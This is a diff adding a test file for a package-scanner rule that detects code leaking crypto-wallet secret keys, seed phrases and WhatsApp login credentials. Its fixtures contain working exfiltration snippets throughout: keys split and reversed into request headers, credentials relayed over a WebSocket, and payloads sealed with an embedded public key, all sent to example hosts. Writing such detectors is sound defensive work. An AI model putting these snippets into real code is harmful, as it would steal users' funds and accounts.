@@ -1,0 +1,52 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './data-leak.rule.js';
+
+/** Of `data-leak`, keys that are known by the library of wallets that gets them, and logins of chats. */
+const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more })[0]?.severity ?? 'nothing';
+const TELL = 'const tell = (a) => fetch("https://rpc.example.org/q", { headers: { a: a.substring(0, 20).split("").reverse().join(""), b: a.substring(20) } })';
+
+test('bad: what a library of wallets gets as a key also goes to a server, in pieces, by functions of the script', () => {
+  for (const code of [
+    `const { Keypair } = require("@solana/web3.js"); const bs58 = require("bs58"); ${TELL}; exports.load = (given) => { tell(bs58.encode(given)); return Keypair.fromSecretKey(given) }`,
+    `import { Wallet } from "ethers"; ${TELL}; export function connect(given, provider) { const wallet = new Wallet(given, provider); tell(given); return wallet }`,
+    `const ethers_1 = require("ethers"); ${TELL}; exports.connect = (words) => { tell(words); return new ethers_1.ethers.Wallet(words) }`,
+    `import { privateKeyToAccount } from "viem/accounts"; ${TELL}; export const open = (hex) => { tell(hex); return privateKeyToAccount(hex) }`,
+    `import * as web3 from "@solana/web3.js"; ${TELL}; export const make = () => { const pair = web3.Keypair.generate(); tell(pair.secretKey.toString()); return pair }`,
+    `import { Keypair } from "@solana/web3.js"; ${TELL}; export const load = (text) => { const bytes = decode(text); tell(text); return Keypair.fromSecretKey(bytes) }`,
+    `import bip39 from "bip39"; ${TELL}; export const seed = (given) => { tell(given); return bip39.mnemonicToSeedSync(given) }`,
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test('bad: handed to a function of another script', () => {
+  assert.equal(worst('import { Wallet } from "ethers"; import { note } from "./note.js"; export const open = (given) => { note(given); return new Wallet(given) }', { 'note.js': 'export async function note(what) { await fetch("https://n.example.org", { method: "POST", body: JSON.stringify({ what }) }) }' }), 'high');
+});
+
+test('good: what is signed, addresses, servers of the settings, and other wallets', () => {
+  for (const code of [
+    'import { Wallet } from "ethers"; export async function pay(given, to) { const wallet = new Wallet(given); return fetch("https://rpc.example.org", { method: "POST", body: await wallet.signTransaction({ to }) }) }',
+    'import { Keypair } from "@solana/web3.js"; export const balance = (given) => { const pair = Keypair.fromSecretKey(given); return fetch("https://rpc.example.org/" + pair.publicKey.toString()) }',
+    'import { Wallet } from "ethers"; export const save = (given) => { new Wallet(given); return fetch(settings.vault, { method: "POST", body: given }) }',
+    'import { Wallet } from "./wallet.js"; export const open = (options) => { const wallet = new Wallet(options); fetch("https://shop.example.org/open", { method: "POST", body: JSON.stringify(options) }); return wallet }',
+    'class Wallet { constructor(name) { this.name = name } } export const open = (name) => { fetch("https://shop.example.org/" + name); return new Wallet(name) }',
+    'export const pair = (curve) => { const pair = curve.make(); return fetch("https://shop.example.org/" + pair.secretKey.length) }',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: the login of a chat goes to a server that is named; good: into a file, a database of the settings, and settings of that name', () => {
+  const relay = { 'relay.js': 'const WebSocket = require("ws"); class Relay { constructor() { this.all = []; this.ws = new WebSocket("wss://r.example.org") } push(kind, what) { this.all.push({ kind, what }); this.flush() } flush() { while (this.all.length) this.ws.send(JSON.stringify(this.all.shift())) } } module.exports = { Relay }' };
+  const socket = (handed: string, library = '@whiskeysockets/baileys') => `const chat = require("${library}"); const { Relay } = require("./relay"); exports.open = (config) => { const sock = chat.default(config); const relay = new Relay(); sock.ev.on("creds.update", () => ${handed}); return sock }`;
+  assert.equal(worst(socket('relay.push("c", config.auth.creds)'), relay), 'high');
+  assert.equal(worst('import makeWASocket, { useMultiFileAuthState } from "./socket.js"; const { state } = await useMultiFileAuthState("x"); fetch("https://r.example.org", { method: "POST", body: JSON.stringify(state.creds) })'), 'high');
+  assert.equal(worst(socket('relay.push("c", Date.now())'), relay), 'nothing');
+  assert.equal(worst(socket('relay.push("c", config.auth.creds)', 'git-client'), relay), 'nothing');
+  assert.equal(worst('import makeWASocket from "baileys"; require("fs").writeFileSync("creds.json", JSON.stringify(config.auth.creds)); fetch(settings.store, { method: "PUT", body: JSON.stringify(config.auth.creds) })'), 'nothing');
+});
+
+test('bad: a key that is made for it seals what is sent; good: a password, a key that the server tells, and servers of the settings', () => {
+  const seal = (lock: string, to = '"https://s.example.org"', key = 'crypto.randomBytes(32)') => `const crypto = require("crypto"); const PEM = \`-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----\`; export function seal(data, given) { const key = ${key}; const c = crypto.createCipheriv("aes-256-gcm", key, iv); fetch(${to}, { method: "POST", body: JSON.stringify({ k: crypto.publicEncrypt(${lock}, key).toString("base64"), b: c.update(data, "utf8", "hex") }) }) }`;
+  assert.equal(worst(seal('PEM')), 'high');
+  assert.equal(worst(seal('{ key: PEM, padding: 4 }')), 'high');
+  for (const code of [seal('given'), seal('PEM', 'settings.to'), seal('PEM', undefined, 'Buffer.from(given)')]) assert.equal(worst(code), 'nothing', code);
+});
